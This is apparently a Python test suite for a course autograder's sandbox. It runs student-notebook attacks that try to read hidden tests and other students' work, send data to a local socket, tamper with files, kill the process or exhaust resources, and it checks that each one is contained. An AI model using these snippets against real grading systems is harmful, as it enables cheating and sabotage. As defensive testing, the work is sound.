"""Attacks on the grader from inside a submission, and what the sandbox makes of them.

Each attack is code a student appends to the solution cell of ``f`` in the toy course
(``toy_course.py``); it runs when that cell runs. The table gives, per attack, the total
score the attacker ends with and text that must (or must not) appear in their autograded
notebook. Every attack is graded in one class run next to an honest student, who must
still get full marks; afterwards ``source/`` is unchanged, no process is left behind and
the grader itself is alive.
"""

import hashlib
import socket
import threading
from pathlib import Path

import nbformat
import psutil
import pytest
import toy_course as toy

from course.grading import engine
from course.grading.notebooks import nbgrader_meta, read_notebook

pytestmark = pytest.mark.slow

FULL = sum(toy.POINTS.values())

# name -> (code run in the student's process, score, text that must appear in the outputs
# of the attacker's autograded notebook, text that must not).
# {root} is the course directory, {port} a TCP port the test listens on.
ATTACKS = {
    "read_hidden_tests_in_source": (
        "try:\n    print(open('{root}/source/toy/toy.ipynb').read())\n"
        "except OSError as e:\n    print('blocked', type(e).__name__)",
        FULL,
        "blocked FileNotFoundError",
        "g(-4) == 16",
    ),
    "read_gradebook": (
        "try:\n    print(len(open('{root}/gradebook.db', 'rb').read()))\n"
        "except OSError as e:\n    print('blocked', type(e).__name__)",
        FULL,
        "blocked FileNotFoundError",
        None,
    ),
    "read_other_students": (
        "import os\ntry:\n    print(os.listdir('{root}/submitted'))\n"
        "except OSError as e:\n    print('blocked', type(e).__name__)",
        FULL,
        "blocked FileNotFoundError",
        "honest",
    ),
    "write_into_source": (
        "try:\n    open('{root}/source/toy/toy.ipynb', 'w').write('{{}}')\n"
        "except OSError as e:\n    print('blocked', type(e).__name__)",
        FULL,
        "blocked",
        None,
    ),
    "write_into_python_environment": (
        "import numpy, os\ntry:\n    open(os.path.join(os.path.dirname(numpy.__file__), "
        "'evil.py'), 'w').write('x = 1')\nexcept OSError as e:\n    print('blocked', e.errno)",
        FULL,
        "blocked 30",
        None,  # EROFS: read-only file system
    ),
    "network_connection": (
        "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), "
        "timeout=2)\n    s.sendall(b'stolen')\n    print('connected')\n"
        "except OSError as e:\n    print('blocked', type(e).__name__)",
        FULL,
        "blocked",
        "connected",
    ),
    "kill_own_process_group": (
        "import os, signal\nos.killpg(0, signal.SIGKILL)",
        0,
        "DeadKernelError",
        None,
    ),
    "exit_the_interpreter": ("import os\nos._exit(0)", 0, "DeadKernelError", None),
    # f is defined before the loop, so only the attacked cell is lost
    "infinite_loop": ("while True:\n    pass", FULL, "CellTimeoutError", None),
    "ignore_the_timeout": (
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
        0,
        "CellTimeoutError",
        None,
    ),
    "exhaust_memory": (
        "import numpy as np\ntry:\n    big = np.ones(3 * 2**30 // 8)\nexcept MemoryError:\n"
        "    print('blocked MemoryError')",
        FULL,
        "blocked MemoryError",
        None,
    ),
    "fill_the_disk": (
        "try:\n    with open('/tmp/huge', 'wb') as fh:\n        for _ in range(400):\n"
        "            fh.write(b'0' * 2**20)\nexcept OSError as e:\n    print('blocked', e.errno)",
        FULL,
        "blocked 27",
        None,  # EFBIG: file too large
    ),
    "print_gigabytes": (
        "import sys\nfor _ in range(40):\n    sys.stdout.write('x' * 2**20)",
        FULL,
        "output cut",
        None,
    ),
    "background_process_outlives_the_run": (
        "import subprocess\nsubprocess.Popen(['sleep', '1234'], start_new_session=True)",
        FULL,
        None,
        None,
    ),
}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on 127.0.0.1 that records whatever reaches it."""
    received = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                received.append(conn.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def outputs_text(nb):
    """Everything a notebook's code cells printed, displayed or raised, as one string."""
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts += [out.get("text", ""), out.get("ename", ""), out.get("evalue", "")]
            parts.append(out.get("data", {}).get("text/plain", ""))
    return "\n".join(parts)


def tree_digest(folder):
    h = hashlib.sha256()
    for path in sorted(Path(folder).rglob("*")):
        if path.is_file():
            h.update(str(path).encode() + path.read_bytes())
    return h.hexdigest()


def leftovers():
    return [
        p for p in psutil.process_iter(["cmdline"])
        if (p.info["cmdline"] or [])[:2] == ["sleep", "1234"]
        or "course.grading.forkserver" in (p.info["cmdline"] or [])
    ]  # fmt: skip


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, listener):
    """The toy class with every attack and one honest student, graded in one run."""
    port, _ = listener
    root = toy.make_course(tmp_path_factory.mktemp("attacks"), timeout=2)
    toy.hand_in(root, ["passes_all"])
    (root / "submitted" / "passes_all").rename(root / "submitted" / "honest")
    honest = root / "submitted" / "honest" / toy.ASSIGNMENT / "toy.ipynb"
    for name, (code, *_) in ATTACKS.items():
        nb = read_notebook(honest)
        for cell in nb.cells:
            if nbgrader_meta(cell).get("grade_id") == "f":
                cell.source += "\n\n" + code.format(root=root, port=port)
        folder = root / "submitted" / name / toy.ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / "toy.ipynb")
    source_before = tree_digest(root / "source")
    summary = engine.autograde(root, toy.ASSIGNMENT)
    return root, summary, source_before


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_is_contained(attacked, name):
    root, summary, _ = attacked
    _, score, present, absent = ATTACKS[name]
    assert name not in summary.errors, summary.errors.get(name)
    assert summary.results[name].score == score
    path = root / "autograded" / name / toy.ASSIGNMENT / "toy.ipynb"
    assert path.stat().st_size < 10 * 2**20  # no notebook of gigabytes
    outputs = outputs_text(read_notebook(path))
    if present:
        assert present in outputs
    if absent:
        assert absent not in outputs


def test_honest_student_next_to_the_attacks_gets_full_marks(attacked):
    _, summary, _ = attacked
    assert summary.results["honest"].score == FULL
    assert summary.errors == {}


def test_nothing_escapes_the_sandbox(attacked, listener):
    root, _, source_before = attacked
    _, received = listener
    assert tree_digest(root / "source") == source_before
    assert received == []
    assert leftovers() == []


def test_without_bubblewrap_autograde_refuses_unless_told(tmp_path, monkeypatch):
    root = toy.make_course(tmp_path / "c")
    toy.hand_in(root, ["passes_all"])
    monkeypatch.setenv("PATH", "/nonexistent")
    engine.sandbox.available.cache_clear()
    try:
        with pytest.raises(engine.driver.CourseError, match="apt-get install bubblewrap"):
            engine.autograde(root, toy.ASSIGNMENT)
        summary = engine.autograde(root, toy.ASSIGNMENT, sandboxed=False)
        assert summary.results["passes_all"].score == FULL
    finally:
        engine.sandbox.available.cache_clear()
